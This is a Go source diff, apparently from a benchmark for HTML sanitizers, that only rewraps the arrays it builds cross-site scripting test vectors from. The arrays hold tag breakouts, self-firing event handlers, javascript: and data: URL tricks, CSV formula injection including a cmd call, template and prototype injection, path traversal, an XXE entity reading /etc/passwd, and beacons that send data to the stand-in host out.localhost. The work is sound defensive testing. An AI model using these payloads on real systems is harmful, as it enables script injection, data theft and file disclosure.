@@ -96,49 +96,75 @@ func (b *bench) vectors() (list []vector, note string, err error) {
 // The parts of which our own vectors are made.
 var (
 	// what an attacker writes to leave the place he was given
-	breakouts = []string{"", `">`, `'>`, "`>", "-->", "--!>", "]]>", "</title>", "</textarea>", "</style>", "</script>",
-		"</noscript>", "</template>", "</select>", "</iframe>", "</xmp>", "<svg><style>", "<math><mtext><table><mglyph><style>",
-		"<svg><desc>", "<math><annotation-xml encoding=text/html>", "<select><option>", "<table><tr>", "<plaintext>", "<!-- --!>",
-		"<form><math><mtext></form><form>", "<noscript><p title='</noscript>", "<svg></p><style><a id='</style>", "&lt;/p&gt;"}
+	breakouts = []string{"", `">`, `'>`, "`>", "-->", "--!>", "]]>", "</title>", "</textarea>", "</style>",
+		"</script>",
+		"</noscript>", "</template>", "</select>", "</iframe>", "</xmp>", "<svg><style>",
+		"<math><mtext><table><mglyph><style>",
+		"<svg><desc>", "<math><annotation-xml encoding=text/html>", "<select><option>", "<table><tr>",
+		"<plaintext>", "<!-- --!>",
+		"<form><math><mtext></form><form>", "<noscript><p title='</noscript>", "<svg></p><style><a id='</style>",
+		"&lt;/p&gt;"}
 	// elements that do something by themselves, with the event that tells them so
 	runners = []string{"img src=x onerror", "svg onload", "video src=x onerror", "audio src=x onerror", "body onload",
 		"details open ontoggle", "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus",
-		"marquee onstart", "object data=x onerror", "iframe onload", "style onload", "link rel=stylesheet href=x onerror",
-		"div onclick", "p onmouseover", "a href=# onclick", "button onclick", "form onsubmit", "video><source onerror",
-		"svg><animate attributeName=x dur=1s onbegin", "svg><set attributeName=x onbegin", "math onclick", "x-y onpointerdown",
+		"marquee onstart", "object data=x onerror", "iframe onload", "style onload",
+		"link rel=stylesheet href=x onerror",
+		"div onclick", "p onmouseover", "a href=# onclick", "button onclick", "form onsubmit",
+		"video><source onerror",
+		"svg><animate attributeName=x dur=1s onbegin", "svg><set attributeName=x onbegin", "math onclick",
+		"x-y onpointerdown",
 		"p tabindex=1 autofocus onfocus", "input type=image src=x onerror", "picture><img src=x onerror",
 		"div style=animation-name:x onanimationstart", "p popover onbeforetoggle", "dialog open oncancel"}
 	// how the name of an attribute and its value can be tied
 	ties = []string{"=%s>", "='%s'>", `="%s">`, " = %s >", "=%s //", "\n=\n'%s'>", "\t=%s\f>", "=%s<"}
 	// elements whose mere presence is wrong
-	carriers = []string{`<script>%s</script>`, `<script src="data:text/javascript,%s"></script>`, `<svg><script>%s</script></svg>`,
+	carriers = []string{`<script>%s</script>`, `<script src="data:text/javascript,%s"></script>`,
+		`<svg><script>%s</script></svg>`,
 		`<svg><script xlink:href="data:,%s"></script></svg>`, `<iframe srcdoc="<script>parent.%s</script>"></iframe>`,
-		`<iframe src="javascript:parent.%s"></iframe>`, `<object data="javascript:%s"></object>`, `<embed src="javascript:%s">`,
+		`<iframe src="javascript:parent.%s"></iframe>`, `<object data="javascript:%s"></object>`,
+		`<embed src="javascript:%s">`,
 		`<a href="javascript:%s">x</a>`, `<a href="java&Tab;script:%s">x</a>`, `<a href="&#1;javascript:%s">x</a>`,
 		`<svg><a xlink:href="javascript:%s"><text y=9>x</text></a></svg>`, `<math href="javascript:%s">x</math>`,
-		`<form action="javascript:%s"><button>x</button></form>`, `<button formaction="javascript:%s" form=f>x</button>`,
+		`<form action="javascript:%s"><button>x</button></form>`,
+		`<button formaction="javascript:%s" form=f>x</button>`,
 		`<meta http-equiv=refresh content="0;url=javascript:%s">`, `<base href="javascript:%s//">`,
 		`<template shadowrootmode=open><img src=x onerror=%s></template>`, `<p title="<img src=x onerror=%s>">x</p>`,
-		`<svg><use href="data:image/svg+xml,<svg id=x><image onerror=%s href=x>#x"></use></svg>`, `<map><area href="javascript:%s" shape=default></map>`,
-		`<svg><animate attributeName=href to="javascript:%s"></svg>`, `<input value="x" onfocus=%s autofocus name=attributes>`,
-		`<img name=body><form id=document><input name=cookie onfocus=%s autofocus></form>`, `<style>@import 'http://out.localhost/%s';</style>`,
-		`<link rel=prefetch href="http://out.localhost/%s">`, `<div style="background:url(http://out.localhost/%s)">x</div>`,
-		`<a href=/x ping="http://out.localhost/%s">x</a>`, `<video poster="http://out.localhost/%s"></video>`, `<img srcset="http://out.localhost/%s 9x">`}
+		`<svg><use href="data:image/svg+xml,<svg id=x><image onerror=%s href=x>#x"></use></svg>`,
+		`<map><area href="javascript:%s" shape=default></map>`,
+		`<svg><animate attributeName=href to="javascript:%s"></svg>`,
+		`<input value="x" onfocus=%s autofocus name=attributes>`,
+		`<img name=body><form id=document><input name=cookie onfocus=%s autofocus></form>`,
+		`<style>@import 'http://out.localhost/%s';</style>`,
+		`<link rel=prefetch href="http://out.localhost/%s">`,
+		`<div style="background:url(http://out.localhost/%s)">x</div>`,
+		`<a href=/x ping="http://out.localhost/%s">x</a>`, `<video poster="http://out.localhost/%s"></video>`,
+		`<img srcset="http://out.localhost/%s 9x">`}
 	// ways to write a call
-	calls = []string{"alert(1)", "alert`1`", "top.alert(1)", "window['al'+'ert'](1)", "(alert)(1)", "alert&lpar;1)", "&#97;lert(1)",
+	calls = []string{"alert(1)", "alert`1`", "top.alert(1)", "window['al'+'ert'](1)", "(alert)(1)", "alert&lpar;1)",
+		"&#97;lert(1)",
 		"\\u0061lert(1)", "self[`alert`](1)", "[1].map(alert)"}
 	// addresses that are none of the web
-	addresses = []string{"javascript:%s", "JaVaScRiPt:%s", "java\tscript:%s", "java\nscript:%s", " \x01javascript:%s", "javascript://a.example/%%0a%s",
-		"data:text/html,<script>%s</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#%s", "data:image/svg+xml,<svg onload=%s>",
-		"vbscript:%s", "blob:https://a.example/%s", "view-source:javascript:%s", "filesystem:http://a.example/%s", "file:///etc/passwd?%s",
-		"//out.localhost/%s", `\\out.localhost\%s`, "https:javascript:%s", "https://a.example@out.localhost/%s", "https://user:pass@a.example/%s",
-		"http://a.example/\" onerror=\"%s", "http://a.example/' onload='%s", "chrome-extension://x/%s", "moz-extension://x/%s", "about:blank#%s",
-		"ms-appinstaller:%s", "intent://x#Intent;%s", "http://[::1]:1/%s", "https://xn--80ak6aa92e.example/%s", "https://а.example/%s", "mailto:a@b.example?%s"}
+	addresses = []string{"javascript:%s", "JaVaScRiPt:%s", "java\tscript:%s", "java\nscript:%s",
+		" \x01javascript:%s", "javascript://a.example/%%0a%s",
+		"data:text/html,<script>%s</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#%s",
+		"data:image/svg+xml,<svg onload=%s>",
+		"vbscript:%s", "blob:https://a.example/%s", "view-source:javascript:%s", "filesystem:http://a.example/%s",
+		"file:///etc/passwd?%s",
+		"//out.localhost/%s", `\\out.localhost\%s`, "https:javascript:%s", "https://a.example@out.localhost/%s",
+		"https://user:pass@a.example/%s",
+		"http://a.example/\" onerror=\"%s", "http://a.example/' onload='%s", "chrome-extension://x/%s",
+		"moz-extension://x/%s", "about:blank#%s",
+		"ms-appinstaller:%s", "intent://x#Intent;%s", "http://[::1]:1/%s", "https://xn--80ak6aa92e.example/%s",
+		"https://а.example/%s", "mailto:a@b.example?%s"}
 	// words that other programs take for more
-	wordings = []string{"=HYPERLINK(\"http://out.localhost/?\"&A1,\"%s\")", "=cmd|' /C calc'!A0 %s", "+1+%s", "-1-%s", "@SUM(1)%s", "\t=1+%s", "\r=1+%s",
-		"a;=1+%s", "“=1”,\n=1+%s", "＝1+%s", "![x](javascript:%s)", "[x](javascript:%s)", "<javascript:%s>", "[x]: javascript:%s", "```\n<script>%s</script>\n```",
-		"{{constructor.constructor('%s')()}}", "${%s}", "#{%s}", "<%%= %s %%>", "$1 $& $` %s", "__proto__ %s", "constructor %s", "\u202e%s\u202c", "\u2066%s", "\u200b%s\u2060",
-		"\ufeff%s", "\U000e0041\U000e0042%s", "../../%s", "..\\..\\%s", "con %s", "%s\x00.html", "]]><script>%s</script>", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;%s"}
+	wordings = []string{"=HYPERLINK(\"http://out.localhost/?\"&A1,\"%s\")", "=cmd|' /C calc'!A0 %s", "+1+%s",
+		"-1-%s", "@SUM(1)%s", "\t=1+%s", "\r=1+%s",
+		"a;=1+%s", "“=1”,\n=1+%s", "＝1+%s", "![x](javascript:%s)", "[x](javascript:%s)", "<javascript:%s>",
+		"[x]: javascript:%s", "```\n<script>%s</script>\n```",
+		"{{constructor.constructor('%s')()}}", "${%s}", "#{%s}", "<%%= %s %%>", "$1 $& $` %s", "__proto__ %s",
+		"constructor %s", "\u202e%s\u202c", "\u2066%s", "\u200b%s\u2060",
+		"\ufeff%s", "\U000e0041\U000e0042%s", "../../%s", "..\\..\\%s", "con %s", "%s\x00.html",
+		"]]><script>%s</script>", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;%s"}
 )
 
 // runs reports whether an element runs its event by itself, or when it is poked.
